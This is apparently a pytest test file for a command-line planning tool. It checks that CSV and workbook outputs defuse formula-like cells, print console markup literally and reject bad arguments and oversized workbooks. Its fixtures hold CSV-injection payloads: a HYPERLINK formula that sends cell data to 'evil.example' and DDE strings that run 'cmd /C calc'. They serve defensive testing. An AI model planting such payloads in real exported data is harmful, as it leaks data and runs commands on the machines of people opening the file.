"""Outputs read by spreadsheets: formula-like text is neutralised; oversized workbooks are refused."""

from __future__ import annotations

import csv
import shutil
import tempfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from conftest import REPO
from hypothesis import given, settings
from hypothesis import strategies as st

import models.tables as tables
from cli import main
from models.loader import load_scenario
from models.plan_io import FORMULA_START, spreadsheet_safe
from optimizer.audit import audit_folder

TINY = REPO / "tests" / "data" / "tiny"
FORMULAS = {
    "Xã Sín Thầu": '=HYPERLINK("http://evil.example/?"&A1,"Sín Thầu")',
    "Lò Văn Thành": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Quàng Thị Hoa": "+84 912 345 678",
    "Nguyễn Thị Mai": "-2+3",
}


@pytest.mark.parametrize("start", FORMULA_START)
def test_formula_starts_get_a_quote(start: str):
    """Each character a spreadsheet would evaluate is defused with a leading quote."""
    assert spreadsheet_safe(start + "1+1") == "'" + start + "1+1"


@pytest.mark.parametrize("text", ["Xã Sín Thầu", "03158", "a=b", "it", ""])
def test_plain_text_is_unchanged(text: str):
    """Text that does not start like a formula is written as it is."""
    assert spreadsheet_safe(text) == text


@pytest.fixture
def formula_scenario(tmp_path: Path) -> Path:
    """The tiny scenario with formula-like names, a formula-like id and a formula as its own name."""
    folder = Path(shutil.copytree(TINY, tmp_path / "formulas"))
    for file in ("communes.csv", "candidates.csv"):
        text = (folder / file).read_text(encoding="utf-8")
        for name, formula in FORMULAS.items():
            text = text.replace(name, '"' + formula.replace('"', '""') + '"')
        (folder / file).write_text(text.replace("P002", "-P002").replace("P004", "-P004"), encoding="utf-8")
    yaml = (folder / "scenario.yaml").read_text(encoding="utf-8")
    (folder / "scenario.yaml").write_text(
        yaml.replace('name: "Tiny — two communes"', "name: \"=cmd|' /C calc'!A0\""), encoding="utf-8"
    )
    return folder


def test_formula_names_are_written_as_text(formula_scenario: Path, tmp_path: Path):
    """No cell of assignments.csv or unfilled.csv starts like a formula; the audit still passes."""
    out = tmp_path / "plan"
    result = CliRunner().invoke(main, ["solve", str(formula_scenario), "--out", str(out)])
    assert result.exit_code == 0, result.output
    cells = []
    for name in ("assignments.csv", "unfilled.csv"):
        with (out / name).open(encoding="utf-8-sig", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert "'" + FORMULAS["Xã Sín Thầu"] in cells
    assert "'" + FORMULAS["Lò Văn Thành"] in cells
    assert {"'-P002", "'-P004"} & set(cells)  # whichever of the two equally good land officers is chosen
    assert audit_folder(load_scenario(formula_scenario), out) == []


def test_markup_in_names_is_printed_as_typed(tmp_path: Path):
    """A name holding console markup such as `[/]` is printed literally, not interpreted."""
    folder = Path(shutil.copytree(TINY, tmp_path / "markup"))
    yaml = (folder / "scenario.yaml").read_text(encoding="utf-8")
    (folder / "scenario.yaml").write_text(
        yaml.replace("Tiny — two communes", "[/][bold]Tiny"), encoding="utf-8"
    )
    for command in (["validate", str(folder)], ["solve", str(folder), "--out", str(tmp_path / "plan")]):
        result = CliRunner().invoke(main, command)
        assert result.exit_code == 0, result.output
        assert "[/][bold]Tiny" in result.output


def test_an_oversized_workbook_is_refused_before_opening(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """A workbook that would unpack beyond the limit is refused with its size, without being opened."""
    folder = Path(shutil.copytree(TINY, tmp_path / "book"))
    pd.read_csv(folder / "agencies.csv", dtype=str).to_excel(
        folder / "book.xlsx", sheet_name="a", index=False
    )
    yaml = (folder / "scenario.yaml").read_text(encoding="utf-8")
    (folder / "scenario.yaml").write_text(yaml.replace(": agencies.csv", ": book.xlsx#a"), encoding="utf-8")
    assert load_scenario(folder).agencies
    monkeypatch.setattr(tables, "MAX_UNPACKED_BYTES", 1000)
    result = CliRunner().invoke(main, ["validate", str(folder)])
    assert result.exit_code == 2
    assert "book.xlsx#a: would unpack to" in result.output and "(at most 1,000 bytes" in result.output


MARKUP = st.text(st.sampled_from("[]/:xbold red=@"), min_size=1, max_size=12)


@pytest.fixture(scope="module")
def tiny_plan(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One plan of the tiny scenario for the argument tests."""
    out = tmp_path_factory.mktemp("args") / "plan"
    assert CliRunner().invoke(main, ["solve", str(TINY), "--out", str(out)]).exit_code == 0
    return out


@settings(max_examples=30, deadline=None)
@given(MARKUP, st.sampled_from(["--candidate", "--shortage"]))
def test_markup_in_arguments_is_printed_as_typed(tiny_plan: Path, text: str, option: str):
    """`--candidate '[/]'`, `--shortage ':x:'`: exit 2 with the argument echoed literally (no markup,
    no emoji), never a rich MarkupError."""
    value = f"{text}:{text}" if option == "--shortage" else text
    result = CliRunner().invoke(main, ["explain", str(TINY), str(tiny_plan), option, value])
    assert result.exit_code == 2, result.output
    assert isinstance(result.exception, SystemExit), result.exception
    assert value in result.output.replace("\n", "")


@pytest.mark.parametrize(
    "option",
    [
        ["--seed", str(10**20)],
        ["--seed", "-1"],
        ["--time-limit", "nan"],
        ["--time-limit", "inf"],
        ["--time-limit", "0"],
        ["--workers", str(10**20)],
    ],
)
def test_huge_or_non_finite_numbers_in_arguments_are_usage_errors(tmp_path: Path, option: list[str]):
    """`--seed 10**20` and friends: a usage error (exit 2) naming the option, before anything runs."""
    result = CliRunner().invoke(main, ["solve", str(TINY), "--out", str(tmp_path / "plan"), *option])
    assert result.exit_code == 2, result.output
    assert option[0] in result.output
    assert not (tmp_path / "plan").exists()


@pytest.mark.parametrize(
    "command",
    [
        ["sweep", str(TINY), "--vary", "policy.max_distance_km=100,200"],
        ["frontier", str(TINY), "--trade", "coverage:distance"],
    ],
)
@pytest.mark.parametrize("seconds", ["nan", "inf", "0", "-5"])
def test_every_time_limit_is_range_checked(tmp_path: Path, command: list[str], seconds: str):
    """`sweep` and `frontier` refuse `--time-limit nan` as `solve` does: exit 2, nothing written."""
    out = tmp_path / "out"
    result = CliRunner().invoke(main, [*command, "--out", str(out), "--time-limit", seconds])
    assert result.exit_code == 2, result.output
    assert "--time-limit" in result.output
    assert not out.exists()


def test_suggest_refuses_a_time_limit_of_nan(tiny_plan: Path):
    """`suggest --time-limit nan`: exit 2 naming the option."""
    args = ["suggest", str(TINY), str(tiny_plan), "--seat", "X:it", "--time-limit", "nan"]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 2 and "--time-limit" in result.output, result.output


GUARD_TEXT = st.builds(
    lambda start, body: start + body,
    st.sampled_from(["", "=", "+", "-", "@", "'", "'=", "''", "'-", "''=", "'a"]),
    st.text(max_size=6),
)


@given(GUARD_TEXT)
def test_the_guard_reads_back_as_the_text_written(text: str):
    """Whatever a cell holds (`-5`, `'=x`, `''`), reading back what was written gives it exactly."""
    from models.plan_io import spreadsheet_text

    assert spreadsheet_text(spreadsheet_safe(text)) == text
    assert not spreadsheet_safe(text).startswith(FORMULA_START)


@settings(max_examples=15, deadline=None)
@given(st.sampled_from(["-", "=", "+", "@", "'=", "''", "'-"]), st.sampled_from(["commune", "candidate"]))
def test_ids_that_start_like_formulas_pass_their_own_audit(start: str, kind: str):
    """A commune or candidate id starting with `-`, `=`, `+`, `@`, or already with `'=`: the plan
    written for it passes the audit (assignments.csv and unfilled.csv alike) and the report reads it."""
    with tempfile.TemporaryDirectory() as root:
        folder = Path(shutil.copytree(TINY, Path(root) / "s"))
        old = "03158" if kind == "commune" else "P001"
        quoted = "'" + (start + old).replace("'", "''") + "'"
        for name in ("communes.csv", "shortages.csv", "candidates.csv", "scenario.yaml"):
            path = folder / name
            text = path.read_text(encoding="utf-8")
            if name == "scenario.yaml":
                text = text.replace(f'"{old}"', quoted).replace(f" {old},", f" {quoted},")
            else:
                text = text.replace(old, start + old)
            path.write_text(text, encoding="utf-8")
        out = Path(root) / "plan"
        result = CliRunner().invoke(main, ["solve", str(folder), "--out", str(out)])
        assert result.exit_code == 0, result.output
        loaded = load_scenario(folder)
        assert start + old in {c.id for c in loaded.communes} | {c.id for c in loaded.candidates}
        assert audit_folder(loaded, out) == []
        report = CliRunner().invoke(
            main, ["report", str(folder), str(out), "--out", str(Path(root) / "r.xlsx")]
        )
        assert report.exit_code == 0, report.output


@settings(max_examples=20, deadline=None)
@given(MARKUP)
def test_markup_in_any_name_is_printed_as_typed(text: str):
    """A commune or person named `[red]…`, `[/]` or `:x:`: solve, audit and explain print it as typed
    (no markup, no emoji) and exit as they would for any name."""
    with tempfile.TemporaryDirectory() as root:
        folder = Path(shutil.copytree(TINY, Path(root) / "s"))
        name = "Xã " + text
        for table, old in (("communes.csv", "Xã Sín Thầu"), ("candidates.csv", "Lò Văn Thành")):
            path = folder / table
            path.write_text(path.read_text(encoding="utf-8").replace(old, name.replace('"', "")), "utf-8")
        out = Path(root) / "plan"
        printed = []
        for args in (
            ["solve", str(folder), "--out", str(out)],
            ["audit", str(folder), str(out)],
            ["explain", str(folder), str(out), "--time-limit", "5"],
        ):
            result = CliRunner().invoke(main, args)
            assert result.exit_code == 0, result.output
            assert isinstance(result.exception, SystemExit | None), result.exception
            printed.append(" ".join(result.output.split()))
        assert " ".join(name.replace('"', "").split()) in " ".join(printed)
